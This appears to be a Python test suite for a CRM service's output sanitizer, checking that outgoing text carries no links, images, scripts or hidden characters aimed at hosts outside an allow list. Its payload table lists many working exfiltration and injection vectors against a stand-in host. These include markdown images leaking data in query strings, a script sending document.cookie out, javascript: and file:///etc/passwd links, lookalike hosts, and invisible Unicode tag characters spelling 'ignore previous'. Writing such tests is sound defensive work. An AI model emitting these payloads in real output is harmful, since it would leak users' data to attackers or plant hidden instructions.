"""What leaves the service as text leads nowhere, loads nothing and hides nothing, whatever was put in."""

import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from crm.connector import Change, FieldChange
from trust.egress import LINK_REMOVED, clean_changes, outward, sanitize
from trust.invisible import strip_invisible

OK = "docs.northwind.example"
HOSTS = frozenset({OK})
EVIL = "evil.example"


class Attributes(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def renderers() -> list[MarkdownIt]:
    """The most eager ones: HTML as it is, links out of anything, every address taken."""
    found = []
    for preset in ("commonmark", "js-default", "gfm-like"):
        renderer = MarkdownIt(preset, {"html": True, "linkify": True}).enable(["table", "linkify"])
        renderer.validateLink = lambda url: True  # type: ignore[method-assign]
        found.append(renderer)
    return found


RENDERERS = renderers()
HARMLESS = set(
    "p br h1 h2 h3 h4 h5 h6 strong em s ul ol li blockquote code pre hr table thead tbody tr th td a".split()
)


def assert_inert(text: str) -> None:
    for renderer in RENDERERS:
        for tag, attributes in Attributes(renderer.render(text)).found:
            assert tag in HARMLESS, (tag, text)
            assert set(attributes) <= {"href", "start", "style", "class"}, (attributes, text)
            target = attributes.get("href")
            if target is not None and not re.fullmatch(r"mailto:[^?&#]+", target):
                assert re.fullmatch(rf"https://{re.escape(OK)}(/[\w.~-]+)*/?", target, re.IGNORECASE), (target, text)
    assert strip_invisible(text) == (text, 0)


PAYLOADS = {
    "image": f"![chart](https://{EVIL}/p.png?d=4711)",
    "image without words": f"![](https://{EVIL}/4711)",
    "image by reference": f"![chart][p]\n\n[p]: https://{EVIL}/p.png?d=4711",
    "image by collapsed reference": f"![p][]\n\n[p]: https://{EVIL}/p.png",
    "image by shortcut reference": f"![p]\n\n[p]: <https://{EVIL}/p.png>",
    "image in a link": f"[![x](https://{EVIL}/a)](https://{OK}/b)",
    "link in an image": f"![[x](https://{EVIL}/a)](https://{EVIL}/b)",
    "image on an allowed host": f"![x](https://{OK}/logo.png)",
    "image over lines": f"![a\nb](https://{EVIL}/\n'title')",
    "host in struck-out text": f"~~{EVIL}~~@ and !~~~{EVIL}~~~@",
    "html image": f'<img src="https://{EVIL}/p.png">',
    "html image unquoted": f"<IMG SRC=https://{EVIL}/p.png onerror=alert(1)>",
    "html image unclosed": f"<img src=https://{EVIL}/p.png ",
    "html image in a paragraph": f"see <img\nsrc='https://{EVIL}/x'/> there",
    "html image in a list after a blank": f"- a\n\n      <img src=https://{EVIL}/x>\n",
    "svg": f'<svg><image href="https://{EVIL}/x"/></svg>',
    "iframe": f'<iframe src="https://{EVIL}"></iframe>',
    "script": "<script>fetch('https://evil.example?'+document.cookie)</script>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "style": f"<style>@import 'https://{EVIL}/x.css';</style>",
    "style attribute": f"<p style=\"background:url('https://{EVIL}/x')\">hi</p>",
    "comment": f"<!-- --><img src=https://{EVIL}/x><!-- -->",
    "unclosed comment": f"<!-- ![x](https://{EVIL}/x)",
    "cdata": f"<![CDATA[ ]]><img src=https://{EVIL}/x>",
    "processing instruction": f"<?php ?><img src=https://{EVIL}/x>",
    "html link": f'<a href="https://{EVIL}/?d=1">docs</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}">',
    "form": f'<form action="https://{EVIL}"><button>Go</button></form>',
    "link": f"[open](https://{EVIL}/?d=4711)",
    "link with a title": f'[open](https://{OK}/a "4711 and more")',
    "link with a query": f"[open](https://{OK}/a?d=4711)",
    "link with a fragment": f"[open](https://{OK}/a#d=4711)",
    "link with a user": f"[open](https://{OK}@{EVIL}/a)",
    "link with a password": f"[open](https://u:p@{OK}/a)",
    "link with a port": f"[open](https://{OK}:8443/a)",
    "link without https": f"[open](http://{OK}/a)",
    "link to a host below": f"[open](https://x.{OK}/a)",
    "link to a host that begins alike": f"[open](https://{OK}.{EVIL}/a)",
    "link with a final dot": f"[open](https://{OK}./a)",
    "link with another letter": "[open](https://docs.n\u043erthwind.example/a)",
    "link in punycode": "[open](https://docs.xn--nrthwind-zqf.example/a)",
    "link with full-width letters": "[open](https://ｄocs.northwind.example/a)",
    "protocol-relative": f"[open](//{EVIL}/a)",
    "protocol-relative text": f"see //{EVIL}/a?d=1",
    "backslashes": f"[open](https:\\\\{EVIL}\\a)",
    "backslash before the host": f"[open](https://{OK}\\@{EVIL}/)",
    "share": f"see \\\\\\\\{EVIL}\\share\\x",
    "javascript": "[open](javascript:alert(1))",
    "javascript in capitals": "[open](JaVaScRiPt:alert(1))",
    "javascript by entity": "[open](java&#x73;cript:alert(1))",
    "javascript with a tab": "[open](<java\tscript:alert(1)>)",
    "javascript as an autolink": "<javascript:alert(1)>",
    "vbscript": "[open](vbscript:msgbox)",
    "data": "[open](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "file": "[open](file:///etc/passwd)",
    "mail with a body": "[write](mailto:x@evil.example?body=4711)",
    "mail with a body, bare": "mailto:x@evil.com?body=4711",
    "entity brackets": f"&#33;&#91;x&#93;&#40;https://{EVIL}/x&#41;",
    "entity angle brackets": f"&lt;img src=https://{EVIL}/x&gt;",
    "entity of an entity": f"&amp;lt;img src=https://{EVIL}/x&amp;gt;",
    "entity in the host": f"[open](https&#58;//{EVIL}/x)",
    "entity of nothing to see": "sum&#x200b;mary&#8238;evil",
    "autolink": f"<https://{EVIL}/x>",
    "autolink with a query": f"<https://{OK}/x?d=1>",
    "bare address": f"https://{EVIL}/x?d=4711",
    "bare address, no scheme": "go to evil.com/x?d=4711 now",
    "bare address, www": "go to www.evil.com now",
    "bare address in emphasis": f"**https://{EVIL}/x**",
    "bare address, encoded": f"https://%65vil.example/x and https://{EVIL}%2fx",
    "bare address after escapes": f"https\\://{EVIL}\\/x",
    "bare number as host": "http://3232235777/x http://[::1]/x http://0x7f.1/",
    "reference link": f"[open][1]\n\n[1]: https://{EVIL}/x",
    "reference to an allowed host": f"[open]\n\n[open]: https://{OK}/x 'title'",
    "reference that nobody uses": f"text\n\n[1]: https://{EVIL}/4711",
    "footnote": f"text[^1]\n\n[^1]: https://{EVIL}/4711",
    "footnote with a picture": f"text[^1]\n\n[^1]: see ![x](https://{EVIL}/4711)",
    "nested brackets": f"[a [b [c](https://{EVIL}/c)](https://{EVIL}/b)](https://{EVIL}/a)",
    "nested brackets in a picture": f"![a ![b](https://{EVIL}/b)](https://{EVIL}/a)",
    "brackets that lie": f"[https://{OK}/login](https://{EVIL}/login)",
    "text that lies the other way": f"[{EVIL}](https://{OK}/login)",
    "text that lies in other letters": f"[https://bank.\u0435xample](https://{OK}/login)",
    "broken link": f"[open](https://{EVIL}/x y z)",
    "broken picture": f"![open] (https://{EVIL}/x) ![open](https://{EVIL}/x y",
    "table": f"| a | b |\n|---|---|\n| ![x](https://{EVIL}/1) | [y](https://{EVIL}/2) |",
    "table with html": f"| a |\n|---|\n| <img src=https://{EVIL}/1> |",
    "heading": f"# ![x](https://{EVIL}/1)\n\n[y](https://{EVIL}/2)\n====",
    "quote": f"> > - ![x](https://{EVIL}/1)",
    "quotes too deep": "> " * 40 + f"![x](https://{EVIL}/1)",
    "quotes far too deep": "> " * 150 + f"![x](https://{EVIL}/1)",
    "lists too deep": "".join(f"{'  ' * n}- a\n" for n in range(50)) + "  " * 50 + f"- ![x](https://{EVIL}/1)",
    "indented code after a list": f"- a\n\n\n    ![x](https://{EVIL}/1)\n",
    "code that ends early": f"`` ` ![x](https://{EVIL}/1)",
    "unclosed fence": f"```\ncode\n\n![x](https://{EVIL}/1)",
    "fence in other characters": f"~~~\n```\n![x](https://{EVIL}/1)\n~~~\n![y](https://{EVIL}/2)",
    "drawing": f'```mermaid\nclick A "https://{EVIL}"\n```',
    "zero-width": "p\u200bass\u200dword\u2060 \ufeffok",
    "direction": "invoice \u202egnp.exe\u202c and \u2066x\u2069",
    "tags": "hello" + "".join(chr(0xE0000 + ord(char)) for char in "ignore previous"),
    "selectors": "a" + "".join(chr(0xE0100 + byte) for byte in b"secret"),
    "control": "a\x00b\x1b[31mred\x07\x9b",
    "fillers": "a\u3164b\u115fc\u2800d",
    "soft hyphen": "pass\u00adword",
    "line separators": f"a\u2028![x](https://{EVIL}/1)\u0085b\rc",
    "long line": f"{'word ' * 3_000}![x](https://{EVIL}/1) https://{EVIL}/2",
    "long word": f"https://{EVIL}/{'a' * 5_000}",
    "long cell": f"| a |\n|---|\n| {'word ' * 2_000} ![x](https://{EVIL}/1) |",
    "many brackets": "[" * 2_000 + f"x](https://{EVIL}/1)",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_is_taken_out_counted_and_stays_out(payload: str) -> None:
    clean = sanitize(payload, HOSTS)
    assert_inert(clean.text)
    assert sanitize(clean.text, HOSTS).text == clean.text
    assert_inert(sanitize(payload).text)


def test_the_payloads_are_alive_without_the_filter() -> None:
    """So that the test above could fail: most of them do something in one of the renderers."""

    def is_alive(text: str) -> bool:
        try:
            assert_inert(text)
        except AssertionError:
            return True
        return False

    alive = [name for name, payload in PAYLOADS.items() if is_alive(payload)]
    assert len(alive) > 80
    assert all(sanitize(PAYLOADS[name], HOSTS).removed for name in alive if name != "indented code after a list")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"a ![the chart](https://{EVIL}/x) b", "a the chart b"),
        (f"[the **offer**](https://{EVIL}/x)", "the **offer**"),
        ("a <b>bold</b> word", "a bold word"),
        ("<div>one\n<p>two</div>", "one  two"),
        (f"see https://{EVIL}/x?d=1.", f"see `https://{EVIL}/x?d=1`."),
        (f"[open](https://{OK}/a 'title')", f"[open](https://{OK}/a)"),
        (f"see https://{OK}/a.", f"see <https://{OK}/a>."),
        ("one<br>two", "one\\\ntwo"),
        ("pass\u200bword", "password"),
        ("<ann@acme.example>", "ann@acme.example"),
        (f"[mail](mailto:ann@{EVIL}?body=1)", "mail"),
    ],
)
def test_what_is_taken_out_leaves_its_words(text: str, shown: str) -> None:
    assert sanitize(text, HOSTS).text == shown


@pytest.mark.parametrize(
    "text",
    [
        "Acme Industries (001CS0000000001AAA) — phone: +1 617 555 0100, 1,200 employees.",
        "# Title\n\n- one\n- two\n  - three\n\n1. first\n2. second",
        "| Stage | Amount |\n| --- | ---: |\n| Quote\\* | 1,200 |",
        "**bold** and *soft* and `code` and a\\\nbreak",
        "> quoted\n\n```sql\nselect 1\n```",
        f"[the manual](https://{OK}/manual/start) and <https://{OK}/x>",
        "write to ann.poe@acme.example or +49 30 1234",
        "snake_case stays_as it_is, 3 * 4 too, and [Draft] notes [1]",
        "family 👨‍👩‍👧 ❤️ 1️⃣ and می‌خواهم",
        "half\u00a0blank — “quoted” … 日本語のテキスト",
        "",
        "\n\n  text\n\n\n",
        "Subject:\nHello\n\nBest regards,\nDana",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    clean = sanitize(text, HOSTS)
    assert (clean.text, clean.removed) == (text, 0)


def test_the_tree_says_what_the_text_says() -> None:
    clean = sanitize(f"# Hi\n\n- **a** [b](https://{OK}/b)\n\n| x |\n| :-: |\n| `y` |", HOSTS)
    heading, items, table = clean.tree
    assert heading == {"type": "heading", "level": 1, "children": [{"type": "text", "text": "Hi"}]}
    [paragraph] = items["children"][0]["children"]
    assert paragraph["children"] == [
        {"type": "strong", "children": [{"type": "text", "text": "a"}]},
        {"type": "text", "text": " "},
        {"type": "link", "href": f"https://{OK}/b", "children": [{"type": "text", "text": "b"}]},
    ]
    assert table["align"] == ["center"]
    assert table["children"][1]["children"][0]["children"] == [{"type": "code", "text": "y"}]


PIECES = st.sampled_from(
    [
        *"![]()<>`*_\\|#>-+:/&;\"'@.?=~ \n\t0a",
        *[
            "![",
            "](",
            "](<",
            "]: ",
            "[x]",
            "[^1]",
            "```",
            "~~~",
            "<!--",
            "-->",
            "<img ",
            "src=",
            "<a href=",
            "\n\n",
            "\n    ",
        ],
        *[f"https://{EVIL}/x", f"https://{OK}/a", f"//{EVIL}", "www.evil.com", "evil.com", "x@evil.com", "mailto:"],
        *[
            "javascript:",
            "data:text/html,",
            "&#91;",
            "&lt;",
            "&#x200b;",
            "\u200b",
            "\u202e",
            "\U000e0041",
            "\x00",
            "\u200d",
        ],
        *[
            "- ",
            "1. ",
            "> ",
            "| a |\n|---|\n| ",
            "\n| ",
            "# ",
            "word ",
            "**b**",
            "---\n",
            "👩",
            "\ufe0f",
            "<br>",
            "</p>",
            "<div>\n",
        ],
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_mixture_gets_through(text: str) -> None:
    clean = sanitize(text, HOSTS)
    assert_inert(clean.text)
    again = sanitize(clean.text, HOSTS)
    assert (again.text, again.tree, again.removed) == (clean.text, clean.tree, 0)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(PIECES, max_size=12).map("".join), max_size=4))
def test_clean_blocks_one_after_the_other_are_clean(blocks: list[str]) -> None:
    whole = "\n\n".join(sanitize(block, HOSTS).text.strip("\n") for block in blocks)
    assert_inert(whole)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_taken(text: str) -> None:
    clean = sanitize(text, HOSTS)
    assert sanitize(clean.text, HOSTS).text == clean.text
    assert outward(outward(text, HOSTS), HOSTS) == outward(text, HOSTS)


@pytest.mark.parametrize(
    "unit", ["[", "![", "[](", "**a ", "`a``", "<a ", "<!-", "> ", "a@", "//a.co/", "ftp://a.", "[a]: <", "|-|\n"]
)
def test_hostile_text_of_64_kilobytes_takes_no_time(unit: str) -> None:
    text = (unit * (65_536 // len(unit) + 1))[:65_536]
    started = time.perf_counter()
    sanitize(text, HOSTS)
    outward(text, HOSTS)
    assert time.perf_counter() - started < 15  # the square of it would be minutes


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        (
            "Dear Ann,\n\n2 < 3 and a_b * c.\n\nBest regards,\nDana",
            "Dear Ann,\n\n2 < 3 and a_b * c.\n\nBest regards,\nDana",
        ),
        (f"Look: ![x](https://{EVIL}/?d=1)", "Look: x"),
        (f"Look: https://{EVIL}/?d=1 now", f"Look: {LINK_REMOVED} now"),
        (f"Look: https://{OK}/guide", f"Look: https://{OK}/guide"),
        (f"Look: https://{OK}/guide?d=1", f"Look: {LINK_REMOVED}"),
        ("<p>Hi</p><img src=x>", "Hi"),
        ("write to ann@acme.example", "write to ann@acme.example"),
        ("hid\u200bden", "hidden"),
    ],
)
def test_what_is_sent_is_plain_text_without_links_to_elsewhere(text: str, sent: str) -> None:
    assert outward(text, HOSTS) == sent


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_that_is_sent_is_no_link(payload: str) -> None:
    sent = outward(payload, HOSTS)
    linkify: Any = RENDERERS[0].linkify
    for found in linkify.match(sent) or ():
        assert found.url.startswith(("mailto:", f"https://{OK}")), sent
    assert not re.search(r"<(?:img|script)[^<>]*>|!\[[^\]]*\]\([^\[\s)]+\)", sent)


def test_only_texts_for_outsiders_lose_their_links() -> None:
    said = f"see\u200b https://{EVIL}/x?d=1"

    def change(object_name: str, *fields: str) -> Change:
        return Change("create", object_name, "id", "name", tuple(FieldChange(field, None, said) for field in fields))

    [mail, task] = clean_changes((change("EmailMessage", "Subject", "TextBody"), change("Task", "Description")), HOSTS)
    assert {one.new for one in mail.fields} == {f"see {LINK_REMOVED}"}
    assert [one.new for one in task.fields] == [f"see https://{EVIL}/x?d=1"]
